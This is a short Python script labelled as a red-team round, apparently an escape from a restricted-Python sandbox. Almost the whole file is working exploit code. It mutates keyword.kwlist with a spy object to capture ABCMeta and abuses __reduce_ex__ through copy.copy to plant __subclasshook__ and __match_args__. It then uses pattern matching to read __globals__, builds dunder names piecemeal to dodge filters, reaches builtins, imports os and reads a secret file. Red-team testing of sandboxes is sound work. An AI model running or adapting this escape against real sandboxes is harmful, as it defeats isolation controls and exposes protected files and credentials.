# family: red team, round 9 (imported_list_type_peer)
# type(k) may be compared with a name imported from an allowed module (IMPORTED counts as a class); keyword.kwlist
# is a plain list the tool can append its own object to. `type(Base) in kwlist` then calls spy.__eq__(ABCMeta).
import abc
import copy
from keyword import kwlist


class Base(abc.ABC):
    pass


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return False

    __hash__ = None


def capture(k):
    spy = Spy()
    kwlist.append(spy)
    type(k) in kwlist
    kwlist.remove(spy)
    return spy.seen[0]


def metaclass():
    return capture(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
